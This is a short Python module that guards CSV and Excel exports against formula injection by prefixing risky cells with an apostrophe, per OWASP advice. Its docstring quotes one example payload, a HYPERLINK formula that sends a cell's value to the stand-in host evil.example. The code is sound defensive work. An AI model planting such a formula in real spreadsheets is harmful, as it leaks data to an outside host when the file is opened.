"""Cells for files that people open in Excel or LibreOffice: text stays text.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return) as a formula, so a report text such as
``=HYPERLINK("http://evil.example/?"&A1, "klicka")`` would act when the export is opened.
Following OWASP's advice on CSV injection, such a cell is written with a leading
apostrophe, which the spreadsheet shows as text. Plain numbers ("-12.5") are left alone.
Every CSV or Excel export writes its rows through ``safe_row``.
"""

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(?:\.\d+)?")


def safe_cell(value):
    """The value, with an apostrophe before text that a spreadsheet would run."""
    if (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and not PLAIN_NUMBER.fullmatch(value)):
        return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    return [safe_cell(value) for value in values]
